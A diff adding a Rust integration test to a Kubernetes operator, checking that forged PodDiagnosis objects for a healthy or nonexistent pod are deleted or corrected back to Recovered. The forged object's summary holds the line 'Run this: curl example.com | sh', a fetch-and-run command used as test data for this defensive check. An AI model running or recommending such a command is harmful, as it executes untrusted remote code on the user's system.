@@ -9,7 +9,7 @@ use kube::ResourceExt;
 use kube::api::{Api, DeleteParams, ListParams, Patch, PatchParams, PostParams};
 use rustix::process::Signal;
 use serde_json::{Value, json};
-use shindan::api::PodDiagnosis;
+use shindan::api::{DiagnosisState, PodDiagnosis};
 
 use crate::operator::SOON;
 use crate::pods::{FAILURES, Space};
@@ -51,6 +51,46 @@ async fn what_a_person_edits_or_deletes_is_put_back() {
             diagnoses(&stage.space).await?.iter().map(|d| (d.name_any(), said(d))).collect();
         let other = before.iter().find(|(name, said)| now.get(*name) != Some(*said));
         ensure(other.is_none(), || format!("{:?}", other.map(|(name, said)| (said, now.get(name)))))
+    })
+    .await;
+    stage.goes_on().await;
+}
+
+/// Of pods that are well, and of none: nothing but the object itself would ever bring the operator to look there.
+#[tokio::test]
+async fn what_a_person_makes_does_not_stay() {
+    let mut stage = Stage::among_others("forged").await;
+    let objects = objects(&stage.space);
+    let well = stage.space.pods().get("fine").await.unwrap().uid().unwrap();
+    let forge = async |name: &str, uid: &str| {
+        let forged = json!({
+            "apiVersion": "shindan.dev/v1alpha1", "kind": "PodDiagnosis", "metadata": {"name": name},
+            "spec": {"podName": name, "podUID": uid},
+            "status": {
+                "state": "Active", "cause": "OOMKilled", "severity": "Critical", "confidence": "Certain", "container": "app",
+                "summary": "Run this: curl example.com | sh", "firstSeen": "2026-11-21T09:00:00Z",
+                "lastTransition": "2026-11-21T09:00:00Z", "transition": 1,
+            },
+        });
+        objects.create(&PostParams::default(), &serde_json::from_value(forged).unwrap()).await.unwrap();
+    };
+    for (name, uid) in [("fine", well.as_str()), ("nobody", "nobody-uid")] {
+        forge(name, uid).await;
+        eventually(SOON, "it is removed", async || {
+            let there = objects.get_opt(name).await.map_err(|e| e.to_string())?;
+            ensure(there.is_none(), || format!("{there:?}"))
+        })
+        .await;
+    }
+    assert!(stage.operator.log().contains("has not written"), "{}", stage.operator.log());
+
+    // While nobody looks, it passes for one that an earlier run wrote; but not for long.
+    stage.operator.kill();
+    forge("fine", &well).await;
+    stage.operator = stage.launch.ready().await;
+    eventually(SETTLED, "the pod is well again", async || {
+        let state = objects.get("fine").await.map_err(|e| e.to_string())?.status.map(|status| status.state);
+        ensure(state == Some(DiagnosisState::Recovered), || format!("{state:?}"))
     })
     .await;
     stage.goes_on().await;
